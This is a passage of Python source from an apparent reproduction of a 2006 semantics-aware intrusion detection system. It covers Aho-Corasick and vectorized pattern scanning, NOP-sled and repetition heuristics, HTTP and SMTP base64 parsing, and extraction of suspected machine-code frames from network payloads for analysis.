    @property
    def num_states(self) -> int:
        return len(self._goto)


class VectorScanSet:
    """Vectorized presence scan for short byte patterns.

    The prefilter's anchor patterns are instruction-encoding prefixes —
    1 to 3 bytes — and its per-frame question is *which patterns occur*
    (plus a total occurrence count), not where.  That presence question
    vectorizes: a byte histogram answers every 1-byte pattern at once, a
    16-bit pair gather every 2-byte pattern, and a sorted-key search over
    24-bit triples every 3-byte pattern.  Patterns of 4+ bytes (none
    derived today) fall back to the :class:`AhoCorasick` automaton so the
    interface stays complete.

    Pattern indices returned by :meth:`presence` are positions in the
    constructor's list.
    """

    def __init__(self, patterns: list[bytes]) -> None:
        import numpy as np

        if any(not p for p in patterns):
            raise ValueError("empty patterns are not allowed")
        self.patterns = list(patterns)
        self._len1 = np.full(256, -1, dtype=np.int32)
        self._has_len1 = False
        self._len2 = None  # lazily allocated 64k-entry table
        len3_keys: list[int] = []
        len3_pids: list[int] = []
        long_patterns: list[bytes] = []
        long_pids: list[int] = []
        for pid, pattern in enumerate(self.patterns):
            if len(pattern) == 1:
                self._len1[pattern[0]] = pid
                self._has_len1 = True
            elif len(pattern) == 2:
                if self._len2 is None:
                    self._len2 = np.full(65536, -1, dtype=np.int32)
                self._len2[(pattern[0] << 8) | pattern[1]] = pid
            elif len(pattern) == 3:
                len3_keys.append((pattern[0] << 16) | (pattern[1] << 8)
                                 | pattern[2])
                len3_pids.append(pid)
            else:
                long_patterns.append(pattern)
                long_pids.append(pid)
        if len3_keys:
            order = np.argsort(len3_keys)
            self._len3_keys = np.asarray(len3_keys, dtype=np.int64)[order]
            self._len3_pids = np.asarray(len3_pids, dtype=np.int64)[order]
        else:
            self._len3_keys = None
            self._len3_pids = None
        self._automaton = AhoCorasick(long_patterns) if long_patterns else None
        self._long_pids = long_pids

    def presence(self, arr) -> tuple[set[int], int]:
        """``(pattern indices present in arr, total occurrences)`` for a
        ``uint8`` array view of the frame."""
        import numpy as np

        present: set[int] = set()
        hits = 0
        n = arr.size
        if self._has_len1 and n:
            counts = np.bincount(arr, minlength=256)
            seen = self._len1[counts > 0]
            present.update(seen[seen >= 0].tolist())
            hits += int(counts[self._len1 >= 0].sum())
        if self._len2 is not None and n > 1:
            pairs = (arr[:-1].astype(np.int32) << 8) | arr[1:]
            pids = self._len2[pairs]
            hit = pids >= 0
            n_hits = int(np.count_nonzero(hit))
            if n_hits:
                hits += n_hits
                present.update(np.unique(pids[hit]).tolist())
        if self._len3_keys is not None and n > 2:
            triples = ((arr[:-2].astype(np.int64) << 16)
                       | (arr[1:-1].astype(np.int64) << 8)
                       | arr[2:])
            slots = np.searchsorted(self._len3_keys, triples)
            slots[slots >= self._len3_keys.size] = 0
            hit = self._len3_keys[slots] == triples
            n_hits = int(np.count_nonzero(hit))
            if n_hits:
                hits += n_hits
                present.update(np.unique(self._len3_pids[slots[hit]]).tolist())
        if self._automaton is not None and n:
            for m in self._automaton.search(arr.tobytes()):
                present.add(self._long_pids[m.pattern])
                hits += 1
        return present, hits

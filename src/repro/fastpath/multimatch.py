"""Aho-Corasick multi-pattern matching, from scratch.

Promoted from ``repro.baseline.aho_corasick`` (which re-exports from
here): the automaton now serves double duty.  It remains the substrate
for the Snort-style signature baseline — real signature IDSs match
thousands of byte patterns simultaneously with exactly this machinery —
and it is the scan engine of the fast-path admission prefilter, where
all templates' anchor byte patterns are compiled into one automaton and
every admitted frame takes a single O(n + matches) pass before any
disassembly happens.

Classic construction: a trie over all patterns (goto function), BFS-built
failure links, and output sets merged along failure chains.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass

__all__ = ["AhoCorasick", "PatternMatch"]


@dataclass(frozen=True)
class PatternMatch:
    """One occurrence: pattern index and the offset of its first byte."""

    pattern: int
    start: int
    end: int


class AhoCorasick:
    """Multi-pattern byte matcher.

    >>> ac = AhoCorasick([b"he", b"she", b"his", b"hers"])
    >>> [(m.pattern, m.start) for m in ac.search(b"ushers")]
    [(1, 1), (0, 2), (3, 2)]
    """

    def __init__(self, patterns: list[bytes]) -> None:
        if any(not p for p in patterns):
            raise ValueError("empty patterns are not allowed")
        self.patterns = list(patterns)
        # state -> {byte: state}
        self._goto: list[dict[int, int]] = [{}]
        # state -> pattern indices ending here
        self._output: list[list[int]] = [[]]
        self._fail: list[int] = [0]
        for index, pattern in enumerate(self.patterns):
            self._insert(pattern, index)
        self._build_failure_links()

    def _insert(self, pattern: bytes, index: int) -> None:
        state = 0
        for byte in pattern:
            nxt = self._goto[state].get(byte)
            if nxt is None:
                nxt = len(self._goto)
                self._goto.append({})
                self._output.append([])
                self._fail.append(0)
                self._goto[state][byte] = nxt
            state = nxt
        self._output[state].append(index)

    def _build_failure_links(self) -> None:
        queue: deque[int] = deque()
        for state in self._goto[0].values():
            self._fail[state] = 0
            queue.append(state)
        while queue:
            state = queue.popleft()
            for byte, nxt in self._goto[state].items():
                queue.append(nxt)
                fail = self._fail[state]
                while fail and byte not in self._goto[fail]:
                    fail = self._fail[fail]
                self._fail[nxt] = self._goto[fail].get(byte, 0)
                if self._fail[nxt] == nxt:
                    self._fail[nxt] = 0
                self._output[nxt] = (self._output[nxt]
                                     + self._output[self._fail[nxt]])

    def search(self, data: bytes) -> list[PatternMatch]:
        """All occurrences of all patterns in ``data``."""
        out: list[PatternMatch] = []
        state = 0
        for pos, byte in enumerate(data):
            while state and byte not in self._goto[state]:
                state = self._fail[state]
            state = self._goto[state].get(byte, 0)
            for pattern in self._output[state]:
                length = len(self.patterns[pattern])
                out.append(PatternMatch(pattern=pattern,
                                        start=pos - length + 1, end=pos + 1))
        return out

    def contains_any(self, data: bytes) -> bool:
        """Fast boolean scan (stops at the first hit)."""
        state = 0
        for byte in data:
            while state and byte not in self._goto[state]:
                state = self._fail[state]
            state = self._goto[state].get(byte, 0)
            if self._output[state]:
                return True
        return False

    @property
    def num_states(self) -> int:
        return len(self._goto)

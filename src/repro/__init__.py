"""repro — reproduction of "Network Intrusion Detection with Semantics-Aware
Capability" (Scheirer & Chuah, IPPS 2006).

Subpackages
-----------
- :mod:`repro.net` — packet substrate (layers, pcap, flows, software wire)
- :mod:`repro.x86` — x86-32 assembler/disassembler (IDA Pro substitute)
- :mod:`repro.ir` — intermediate representation, CFG, dataflow
- :mod:`repro.core` — semantic templates and the template matcher (the
  paper's primary contribution)
- :mod:`repro.classify` — honeypot + dark-address traffic classifier
- :mod:`repro.extract` — binary detection and extraction from payloads
- :mod:`repro.engines` — shellcode corpus, polymorphic engines, exploits
- :mod:`repro.traffic` — benign traffic and evaluation trace synthesis
- :mod:`repro.nids` — the five-stage NIDS pipeline and live sensor
- :mod:`repro.baseline` — reimplementation of the host-based system of
  Christodorescu et al. [5] used for efficiency comparisons
"""

__version__ = "1.0.0"

"""NOP-sled region detection (§4.2).

Classic sleds were a run of ``0x90``; polymorphic exploit generators draw
from the set of single-byte instructions whose execution is harmless at
any entry offset ("NOP-like" behaviour).  The detector scores windows by
the fraction of NOP-like bytes and reports maximal regions above a
density threshold, which both locates the probable start of attacker code
(just past the sled) and serves as an extraction trigger on non-HTTP
payloads.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

__all__ = ["NOP_LIKE", "SledRegion", "find_sleds", "screen_regions",
           "sled_density"]

# Single-byte x86 instructions safe to slide through.  This is the set
# ADMmutate-style engines draw from: nop, the 16-bit prefix'd nop pairs are
# excluded, inc/dec/push of registers, flag operations, and the harmless
# BCD/ascii-adjust group.
NOP_LIKE = frozenset(
    [0x90]                      # nop
    + list(range(0x40, 0x50))   # inc/dec r32
    + list(range(0x50, 0x58))   # push r32
    + [0x27, 0x2F, 0x37, 0x3F]  # daa, das, aaa, aas
    + [0x98, 0x99]              # cwde, cdq
    + [0xF5, 0xF8, 0xF9, 0xFC, 0xFD]  # cmc, clc, stc, cld, std
    + [0x9E, 0x9F]              # sahf, lahf
    + [0xD6]                    # salc
)

_NOP_TABLE = np.zeros(256, dtype=bool)
for _b in NOP_LIKE:
    _NOP_TABLE[_b] = True


@dataclass(frozen=True)
class SledRegion:
    """A located NOP-like region."""

    start: int
    length: int
    density: float

    @property
    def end(self) -> int:
        return self.start + self.length


def sled_density(data: bytes) -> float:
    """Fraction of NOP-like bytes over the whole buffer."""
    if not data:
        return 0.0
    arr = np.frombuffer(data, dtype=np.uint8)
    return float(_NOP_TABLE[arr].mean())


def screen_regions(regions, min_length: int = 24) -> np.ndarray:
    """Batched sled pre-screen: which regions can possibly hold a sled.

    Boolean mask over ``regions`` applying :func:`find_sleds`' quick
    reject — fewer than ``min_length`` NOP-like bytes total — to every
    buffer with ONE table gather over their concatenation plus one
    ``np.add.reduceat``, instead of a numpy round-trip per region.  The
    predicate is byte-for-byte the same as the scalar reject, so callers
    may skip :func:`find_sleds` for masked-out regions without changing
    any result.
    """
    count = len(regions)
    mask = np.zeros(count, dtype=bool)
    if count == 0:
        return mask
    sizes = np.fromiter((len(r) for r in regions), dtype=np.int64,
                        count=count)
    total = int(sizes.sum())
    if total == 0:
        return mask
    buf = np.empty(total, dtype=np.uint8)
    pos = 0
    for region in regions:
        n = len(region)
        if n:
            buf[pos:pos + n] = np.frombuffer(region, dtype=np.uint8)
            pos += n
    hits = _NOP_TABLE[buf].astype(np.int64)
    starts = np.zeros(count, dtype=np.int64)
    np.cumsum(sizes[:-1], out=starts[1:])
    nonempty = sizes > 0
    # reduceat over the starts of non-empty regions: empty regions sit
    # between consecutive starts and contribute zero bytes, so each sum
    # covers exactly one region's bytes.
    counts = np.zeros(count, dtype=np.int64)
    counts[nonempty] = np.add.reduceat(hits, starts[nonempty])
    mask[:] = counts >= min_length
    return mask


def find_sleds(
    data: bytes,
    min_length: int = 24,
    min_density: float = 0.9,
) -> list[SledRegion]:
    """Maximal regions of ``min_length``+ bytes that are almost entirely
    NOP-like.

    Implementation: mark NOP-like bytes, allow isolated non-NOP bytes to
    join two runs when overall density stays above ``min_density`` (some
    generators interleave rare two-byte fillers).
    """
    n = len(data)
    if n < min_length:
        return []
    arr = np.frombuffer(data, dtype=np.uint8)
    is_nop = _NOP_TABLE[arr]
    if int(is_nop.sum()) < min_length:  # quick reject for ordinary data
        return []
    # Vectorized run extraction over the boolean mask.
    padded = np.concatenate(([False], is_nop, [False]))
    edges = np.flatnonzero(np.diff(padded.view(np.int8)))
    starts, ends = edges[0::2], edges[1::2]

    regions: list[SledRegion] = []
    cur_start = cur_end = cur_nops = -1
    for start, end in zip(starts.tolist(), ends.tolist()):
        if cur_start >= 0:
            merged_len = end - cur_start
            merged_nops = cur_nops + (end - start)
            if start - cur_end == 1 and merged_nops / merged_len >= min_density:
                # Merge across a single-byte miss when density stays high.
                cur_end, cur_nops = end, merged_nops
                continue
            if cur_end - cur_start >= min_length:
                regions.append(SledRegion(
                    start=cur_start, length=cur_end - cur_start,
                    density=cur_nops / (cur_end - cur_start),
                ))
        cur_start, cur_end, cur_nops = start, end, end - start
    if cur_start >= 0 and cur_end - cur_start >= min_length:
        regions.append(SledRegion(
            start=cur_start, length=cur_end - cur_start,
            density=cur_nops / (cur_end - cur_start),
        ))
    return regions

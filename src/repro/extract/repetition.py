"""Suspicious-repetition detection (§4.2).

Buffer-overflow requests pad with long runs — Code Red II's 224 ``X``
characters, generic exploits' NOP regions, and the return-address block's
repeated 4-byte pattern.  "Our module has the ability to distinguish
between acceptable protocol usage and suspicious repetition."

Run-length detection is vectorized with numpy: benign-trace scanning
(§5.4) touches hundreds of megabytes and a Python byte loop dominated the
profile before vectorization.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

__all__ = ["ByteRun", "find_byte_runs", "find_repeated_dwords",
           "longest_run"]


@dataclass(frozen=True)
class ByteRun:
    """A run of identical bytes."""

    start: int
    length: int
    value: int

    @property
    def end(self) -> int:
        return self.start + self.length


def find_byte_runs(data: bytes, min_length: int = 32) -> list[ByteRun]:
    """All runs of one repeated byte at least ``min_length`` long."""
    if len(data) < min_length:
        return []
    arr = np.frombuffer(data, dtype=np.uint8)
    # Boundaries where the byte value changes.
    change = np.flatnonzero(np.diff(arr)) + 1
    starts = np.concatenate(([0], change))
    ends = np.concatenate((change, [len(arr)]))
    lengths = ends - starts
    keep = lengths >= min_length
    return [
        ByteRun(start=int(s), length=int(l), value=int(arr[s]))
        for s, l in zip(starts[keep], lengths[keep])
    ]


def longest_run(data: bytes) -> ByteRun | None:
    """The single longest identical-byte run, if any."""
    runs = find_byte_runs(data, min_length=2)
    if not runs:
        return None
    return max(runs, key=lambda r: r.length)


@dataclass(frozen=True)
class DwordRun:
    """A run of one repeated 4-byte pattern (the return-address block)."""

    start: int
    count: int  # number of pattern repetitions
    pattern: bytes

    @property
    def end(self) -> int:
        return self.start + 4 * self.count


def find_repeated_dwords(data: bytes, min_repeats: int = 4) -> list[DwordRun]:
    """Runs of a repeated aligned-or-unaligned 4-byte pattern.

    The return-address region of a stack smash repeats the same address
    many times (only the least-significant byte may vary, §4.2) — runs
    where bytes 4 apart are equal capture both the exact-repeat and the
    LSB-varied case is handled by the caller comparing the top 3 bytes.
    """
    n = len(data)
    if n < 4 * (min_repeats + 1):
        return []
    arr = np.frombuffer(data, dtype=np.uint8)
    same_as_4_ago = arr[4:] == arr[:-4]  # data[i] == data[i-4]
    # Return-address blocks may vary the least-significant byte of each
    # address (§4.2), producing an isolated mismatch inside every dword.
    # Forgive a mismatch whose immediate neighbours both match — the other
    # three bytes of the address still repeat.
    if len(same_as_4_ago) > 2:
        left = np.concatenate(([False], same_as_4_ago[:-1]))
        right = np.concatenate((same_as_4_ago[1:], [False]))
        same_as_4_ago = same_as_4_ago | (left & right)
    # Vectorized run extraction over the boolean mask.
    padded = np.concatenate(([False], same_as_4_ago, [False]))
    edges = np.flatnonzero(np.diff(padded.view(np.int8)))
    starts, ends = edges[0::2], edges[1::2]
    runs: list[DwordRun] = []
    for start, end in zip(starts, ends):
        matched = int(end - start)  # bytes for which data[k]==data[k-4]
        count = matched // 4 + 1
        if count >= min_repeats:
            start = int(start)
            runs.append(DwordRun(start=start, count=count,
                                 pattern=bytes(data[start : start + 4])))
    return runs

"""MIME/base64 attachment extraction from SMTP message bodies.

The paper's conclusion names email worms as the next behaviour family to
cover.  Their network-visible payload is a base64 attachment inside an
SMTP ``DATA`` block; this module locates attachment bodies and decodes
them so the ordinary binary-frame pipeline (sled location, disassembly,
template matching) can run on the *decoded* bytes.
"""

from __future__ import annotations

import base64
import binascii
import re
from dataclasses import dataclass

__all__ = ["Base64Region", "find_base64_regions", "looks_like_smtp_data"]

# Runs of base64 alphabet lines, as produced by encoders (RFC 2045 wraps
# at 76 chars; we accept any consistent line length >= 16).  The final
# line of an attachment is usually shorter and may carry '=' padding.
_B64_LINE = re.compile(rb"^[A-Za-z0-9+/]{16,}={0,2}\r?$")
_B64_TAIL = re.compile(rb"^[A-Za-z0-9+/]{2,15}={0,2}\r?$")
_CTE_HEADER = re.compile(rb"Content-Transfer-Encoding:\s*base64",
                         re.IGNORECASE)


@dataclass
class Base64Region:
    """A decoded attachment candidate."""

    start: int       # offset of the first base64 line in the payload
    end: int         # offset one past the last line
    data: bytes      # decoded bytes
    explicit: bool   # announced by a Content-Transfer-Encoding header


def looks_like_smtp_data(payload: bytes) -> bool:
    """Cheap dispatch: does this look like an SMTP message submission?"""
    head = payload[:2048]
    return (b"\r\nDATA\r\n" in head or payload.rstrip().endswith(b"\r\n.")
            or b"MAIL FROM:" in head or b"From:" in head[:256])


def find_base64_regions(payload: bytes, min_lines: int = 4,
                        min_decoded: int = 32) -> list[Base64Region]:
    """Locate maximal runs of base64-looking lines and decode them.

    A region must either follow a ``Content-Transfer-Encoding: base64``
    header or consist of ``min_lines``+ consecutive alphabet-pure lines —
    both together keep ordinary message text out.
    """
    explicit_zones = [m.end() for m in _CTE_HEADER.finditer(payload)]
    regions: list[Base64Region] = []
    offset = 0
    run_start = -1
    run_lines: list[bytes] = []

    def flush(end_offset: int) -> None:
        nonlocal run_start, run_lines
        if run_start >= 0 and len(run_lines) >= 1:
            explicit = any(z <= run_start <= z + 512 for z in explicit_zones)
            if explicit or len(run_lines) >= min_lines:
                joined = b"".join(line.rstrip(b"\r") for line in run_lines)
                try:
                    decoded = base64.b64decode(joined, validate=True)
                except (binascii.Error, ValueError):
                    decoded = b""
                if len(decoded) >= min_decoded:
                    regions.append(Base64Region(
                        start=run_start, end=end_offset, data=decoded,
                        explicit=explicit,
                    ))
        run_start, run_lines = -1, []

    for line in payload.split(b"\n"):
        line_len = len(line) + 1
        if _B64_LINE.match(line):
            if run_start < 0:
                run_start = offset
            run_lines.append(line)
        elif run_start >= 0 and _B64_TAIL.match(line):
            # the (short) final line of the attachment closes the run
            run_lines.append(line)
            flush(offset + line_len)
        else:
            flush(offset)
        offset += line_len
    flush(offset)
    return regions

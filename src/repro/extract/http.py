"""Tolerant HTTP request parsing for the binary-extraction stage.

The extractor needs to know "what is expected in a protocol request, and
what is abnormal" (§4.2).  This parser accepts anything that *looks* like
an HTTP request — including requests whose URL is a 60 KB exploit blob —
and exposes the pieces (method, target, query, headers, body) so the
extraction heuristics can scan each region.
"""

from __future__ import annotations

from dataclasses import dataclass, field

__all__ = ["HttpRequest", "parse_http_request", "looks_like_http",
           "http_response_body"]

_METHODS = (b"GET", b"POST", b"HEAD", b"PUT", b"DELETE", b"OPTIONS",
            b"TRACE", b"CONNECT", b"PROPFIND", b"SEARCH")


@dataclass
class HttpRequest:
    """A (possibly malformed) HTTP request split into regions.

    Offsets are into the original byte stream so extracted binary frames
    can be traced back to their position in the payload.
    """

    method: bytes = b""
    target: bytes = b""
    version: bytes = b""
    headers: list[tuple[bytes, bytes]] = field(default_factory=list)
    body: bytes = b""
    target_offset: int = 0
    body_offset: int = 0
    malformed: bool = False

    @property
    def path(self) -> bytes:
        return self.target.split(b"?", 1)[0]

    @property
    def query(self) -> bytes:
        parts = self.target.split(b"?", 1)
        return parts[1] if len(parts) == 2 else b""

    def header(self, name: bytes) -> bytes | None:
        lowered = name.lower()
        for key, value in self.headers:
            if key.lower() == lowered:
                return value
        return None


def looks_like_http(data: bytes) -> bool:
    """Cheap dispatch test: does this payload begin like an HTTP request?"""
    head = data[:12]
    return any(head.startswith(m + b" ") for m in _METHODS)


def http_response_body(data: bytes) -> tuple[int, bytes] | None:
    """If ``data`` is an HTTP *response*, return ``(body_offset, body)``.

    Server-to-client content matters too: a drive-by download or an
    exploit delivered in a response body reaches the client through this
    direction of the stream.
    """
    if not data.startswith(b"HTTP/1."):
        return None
    for sep in (b"\r\n\r\n", b"\n\n"):
        end = data.find(sep)
        if end >= 0:
            offset = end + len(sep)
            return offset, data[offset:]
    return len(data), b""


def parse_http_request(data: bytes) -> HttpRequest | None:
    """Parse a request; returns None if it does not even start like HTTP.

    Anything unusual after a recognizable request line is *kept* (with
    ``malformed=True``) rather than rejected — malformed-but-HTTP-shaped
    traffic is exactly what needs deeper analysis.
    """
    if not looks_like_http(data):
        return None
    req = HttpRequest()

    line_end = data.find(b"\r\n")
    if line_end < 0:
        line_end = data.find(b"\n")
        if line_end < 0:
            line_end = len(data)
        header_sep, sep_len = b"\n\n", 1
    else:
        header_sep, sep_len = b"\r\n\r\n", 2

    request_line = data[:line_end]
    parts = request_line.split(b" ")
    req.method = parts[0]
    if len(parts) >= 3:
        req.target = b" ".join(parts[1:-1])
        req.version = parts[-1]
        if not req.version.startswith(b"HTTP/"):
            req.target = b" ".join(parts[1:])
            req.version = b""
            req.malformed = True
    elif len(parts) == 2:
        req.target = parts[1]
        req.malformed = True
    else:
        req.malformed = True
    req.target_offset = len(req.method) + 1

    header_end = data.find(header_sep, line_end)
    if header_end < 0:
        header_block = data[line_end + sep_len:]
        req.body = b""
        req.body_offset = len(data)
    else:
        header_block = data[line_end + sep_len : header_end]
        req.body_offset = header_end + len(header_sep)
        req.body = data[req.body_offset:]

    newline = b"\r\n" if sep_len == 2 else b"\n"
    for raw_line in header_block.split(newline):
        if not raw_line:
            continue
        name, sep, value = raw_line.partition(b":")
        if not sep:
            req.malformed = True
            continue
        req.headers.append((name.strip(), value.strip()))
    return req

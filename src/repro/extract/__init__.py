"""Binary detection and extraction (stage (b) of the paper's architecture):
HTTP parsing, repetition/sled/unicode heuristics, and frame extraction."""

from .http import HttpRequest, looks_like_http, parse_http_request
from .unicode import (
    UnicodeRun, decode_unicode_run, find_unicode_runs, percent_decode,
)
from .repetition import ByteRun, find_byte_runs, find_repeated_dwords, longest_run
from .sled import NOP_LIKE, SledRegion, find_sleds, sled_density
from .mime import Base64Region, find_base64_regions, looks_like_smtp_data
from .frames import BinaryExtractor, BinaryFrame, binary_fraction

__all__ = [
    "HttpRequest", "looks_like_http", "parse_http_request",
    "UnicodeRun", "decode_unicode_run", "find_unicode_runs", "percent_decode",
    "ByteRun", "find_byte_runs", "find_repeated_dwords", "longest_run",
    "NOP_LIKE", "SledRegion", "find_sleds", "sled_density",
    "BinaryExtractor", "BinaryFrame", "binary_fraction",
    "Base64Region", "find_base64_regions", "looks_like_smtp_data",
]

"""Binary detection and extraction (stage (b) of Figure 3).

Given an application payload (a reassembled request or a raw datagram),
locate the regions that plausibly contain attacker-supplied machine code
and emit them as *binary frames* for the disassembler.  The heuristics
follow §4.2:

- a protocol-aware pass over HTTP requests: suspicious repetition in the
  request target or body marks an overflow; ``%uXXXX`` runs are decoded to
  their binary form;
- NOP-sled location: code starts where the sled ends;
- the return-address block (a repeated 4-byte pattern) bounds the frame on
  the right;
- a binary-content score keeps plain text (benign web/mail traffic) away
  from the disassembler entirely — this is the stage that makes the
  pipeline "more efficient than what is reported in [5]".
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..obs import MetricField, MetricsRegistry, StageTimer, Tracer, bind_metrics
from .http import http_response_body, parse_http_request
from .mime import find_base64_regions, looks_like_smtp_data
from .repetition import find_byte_runs, find_repeated_dwords
from .sled import find_sleds, screen_regions
from .unicode import find_unicode_runs, percent_decode

__all__ = ["BinaryFrame", "BinaryExtractor", "binary_fraction"]

_PRINTABLE = np.zeros(256, dtype=bool)
for _b in range(0x20, 0x7F):
    _PRINTABLE[_b] = True
for _b in (0x09, 0x0A, 0x0D):
    _PRINTABLE[_b] = True


def binary_fraction(data: bytes) -> float:
    """Fraction of bytes outside printable ASCII + whitespace."""
    if not data:
        return 0.0
    arr = np.frombuffer(data, dtype=np.uint8)
    return float(1.0 - _PRINTABLE[arr].mean())


@dataclass
class BinaryFrame:
    """A candidate machine-code region extracted from a payload."""

    data: bytes
    origin: str  # e.g. "http-target-unicode", "http-body-overflow", "raw-sled"
    offset: int  # offset of the source region within the payload
    note: str = ""

    def __len__(self) -> int:
        return len(self.data)


class BinaryExtractor:
    """Extracts binary frames from application payloads."""

    payloads_seen = MetricField(
        "repro_extract_payloads_total",
        help="Application payloads scanned for binary content.",
        unit="payloads")
    frames_emitted = MetricField(
        "repro_extract_frames_total",
        help="Binary frames emitted to the disassembler.", unit="frames")
    bytes_in = MetricField(
        "repro_extract_bytes_in_total",
        help="Payload bytes entering extraction.", unit="bytes")
    bytes_out = MetricField(
        "repro_extract_bytes_out_total",
        help="Frame bytes surviving extraction (the reduction is the "
             "efficiency story of §4.2).", unit="bytes")

    def __init__(
        self,
        min_frame: int = 8,
        max_frame: int = 128 * 1024,
        repetition_min: int = 32,
        sled_min: int = 24,
        unicode_min_escapes: int = 8,
        raw_binary_threshold: float = 0.20,
        max_frames_per_payload: int = 8,
        raw_frame_cap: int = 4096,
        registry: MetricsRegistry | None = None,
        tracer: Tracer | None = None,
    ) -> None:
        self.min_frame = min_frame
        self.max_frame = max_frame
        self.repetition_min = repetition_min
        self.sled_min = sled_min
        self.unicode_min_escapes = unicode_min_escapes
        self.raw_binary_threshold = raw_binary_threshold
        self.max_frames_per_payload = max_frames_per_payload
        #: unattributed binary blobs (no sled, no protocol anchor) are
        #: analyzed by prefix only; attacker code reached through an
        #: overflow is located by the other heuristics, with exact offsets.
        self.raw_frame_cap = raw_frame_cap
        bind_metrics(self, registry)
        self.timer = StageTimer("extract", registry, tracer)

    # -- public -------------------------------------------------------------

    def extract(self, payload: bytes) -> list[BinaryFrame]:
        """All binary frames found in one application payload.

        Accepts the zero-copy ``memoryview`` payloads the decode chain
        produces; the view is materialized exactly once, here, where the
        protocol parsers need real ``bytes`` (and where frame data — the
        frame-cache key — is about to be derived)."""
        if not isinstance(payload, bytes):
            payload = bytes(payload)
        with self.timer.timed(nbytes=len(payload)):
            return self._extract(payload)

    def _extract(self, payload: bytes) -> list[BinaryFrame]:
        self.payloads_seen += 1
        self.bytes_in += len(payload)
        request = parse_http_request(payload)
        response = http_response_body(payload) if request is None else None
        if request is not None:
            frames = self._extract_http(payload, request)
        elif response is not None:
            body_offset, body = response
            frames = (self._scan_body("http-response", body_offset, body)
                      if len(body) >= self.min_frame else [])
        elif looks_like_smtp_data(payload):
            frames = self._extract_smtp(payload)
        else:
            frames = self._extract_raw(payload)
        frames = self._dedupe(frames)[: self.max_frames_per_payload]
        self.frames_emitted += len(frames)
        self.bytes_out += sum(len(f) for f in frames)
        return frames

    # -- HTTP ---------------------------------------------------------------

    def _extract_http(self, payload: bytes, request) -> list[BinaryFrame]:
        frames: list[BinaryFrame] = []
        regions = [
            ("http-target", request.target_offset, request.target),
            ("http-body", request.body_offset, request.body),
        ]
        # One vectorized pass decides which regions can hold a sled at
        # all; the per-region sled detector then runs only where it can
        # find something (identical results, see screen_regions).
        sled_mask = screen_regions([r for _, _, r in regions],
                                   min_length=self.sled_min)
        for (name, base_offset, region), sled_ok in zip(regions, sled_mask):
            if len(region) < self.min_frame:
                continue
            frames.extend(self._scan_region(name, base_offset, region,
                                            sled_ok=bool(sled_ok)))
        return frames

    def _scan_region(self, name: str, base: int, region: bytes,
                     sled_ok: bool = True) -> list[BinaryFrame]:
        frames: list[BinaryFrame] = []

        # 1. %uXXXX runs decode straight to binary frames.
        for run in find_unicode_runs(region, min_escapes=self.unicode_min_escapes):
            decoded = run.decode()
            if len(decoded) >= self.min_frame:
                frames.append(BinaryFrame(
                    data=decoded[: self.max_frame],
                    origin=f"{name}-unicode",
                    offset=base + run.start,
                    note=f"{len(run.escapes)} %u escapes",
                ))

        # 2. Suspicious repetition: content following a long identical-byte
        #    run is where the exploit payload lives.
        for run in find_byte_runs(region, min_length=self.repetition_min):
            tail = region[run.end:]
            if len(tail) < self.min_frame:
                continue
            # %u content after the run is already handled above; extract the
            # raw remainder for non-unicode exploits.
            candidate = percent_decode(self._trim_return_block(tail))
            if len(candidate) >= self.min_frame and binary_fraction(candidate) > 0.05:
                frames.append(BinaryFrame(
                    data=candidate[: self.max_frame],
                    origin=f"{name}-overflow",
                    offset=base + run.end,
                    note=f"after {run.length}x{run.value:#04x} run",
                ))

        # 3. Sleds inside the region (e.g. binary POST bodies).
        if sled_ok:
            frames.extend(self._sled_frames(name, base, region))
        return frames

    # -- HTTP responses (server-to-client content) ----------------------------

    def _scan_body(self, name: str, base: int, body: bytes) -> list[BinaryFrame]:
        """Response bodies: sled/unicode/repetition heuristics like request
        regions, plus a body-aligned raw frame for binary downloads (the
        body boundary gives the disassembler a correct starting offset)."""
        frames = self._scan_region(name, base, body)
        if not frames and binary_fraction(body) >= self.raw_binary_threshold:
            frames.append(BinaryFrame(
                data=body[: min(self.max_frame, self.raw_frame_cap)],
                origin=f"{name}-body",
                offset=base,
                note=f"binary fraction {binary_fraction(body):.2f}",
            ))
        return frames

    # -- SMTP (email-worm extension) ---------------------------------------

    def _extract_smtp(self, payload: bytes) -> list[BinaryFrame]:
        """Decode base64 attachment bodies and scan the *decoded* bytes —
        the delivery channel of email worms (the paper's named future
        work)."""
        frames: list[BinaryFrame] = []
        regions = [region for region in find_base64_regions(payload)
                   if len(region.data) >= self.min_frame]
        sled_mask = screen_regions([r.data for r in regions],
                                   min_length=self.sled_min)
        for region, sled_ok in zip(regions, sled_mask):
            decoded = region.data
            sled_frames = (self._sled_frames("b64-attachment", region.start,
                                             decoded) if sled_ok else [])
            if sled_frames:
                frames.extend(sled_frames)
                continue
            if binary_fraction(decoded) >= self.raw_binary_threshold:
                frames.append(BinaryFrame(
                    data=decoded[: min(self.max_frame, self.raw_frame_cap)],
                    origin="b64-attachment",
                    offset=region.start,
                    note=("announced base64" if region.explicit
                          else "heuristic base64 run"),
                ))
        return frames

    # -- raw payloads ----------------------------------------------------------

    def _extract_raw(self, payload: bytes) -> list[BinaryFrame]:
        if len(payload) < self.min_frame:
            return []
        frames = self._sled_frames("raw", 0, payload)
        if frames:
            return frames
        # No sled: only consider payloads that are substantially binary.
        if binary_fraction(payload) < self.raw_binary_threshold:
            return []
        candidate = self._trim_return_block(payload)
        if len(candidate) < self.min_frame:
            return []
        return [BinaryFrame(
            data=candidate[: min(self.max_frame, self.raw_frame_cap)],
            origin="raw",
            offset=0,
            note=f"binary fraction {binary_fraction(payload):.2f}",
        )]

    def _sled_frames(self, name: str, base: int, region: bytes) -> list[BinaryFrame]:
        frames: list[BinaryFrame] = []
        for sled in find_sleds(region, min_length=self.sled_min):
            # Frame alignment: every byte of a *pure* NOP-like run is a
            # single-byte instruction, so decoding from inside one is
            # always instruction-aligned and flows into the code that
            # follows.  The detector's region may have merged isolated
            # non-NOP bytes at either end (text look-alikes before the
            # sled, decoder bytes after it), so we anchor at the start of
            # the last pure run inside the region — which is the real
            # sled's tail whichever way the detector overshot.
            entry = sled.start
            if sled.density < 1.0:
                slice_ = region[sled.start:sled.end]
                pure_runs = find_sleds(
                    slice_, min_length=min(self.sled_min, sled.length),
                    min_density=1.0,
                )
                if pure_runs:
                    entry = sled.start + pure_runs[-1].start
            code = self._trim_return_block(region[entry:])
            sled_prefix = sled.end - entry
            if len(code) - sled_prefix >= self.min_frame:
                frames.append(BinaryFrame(
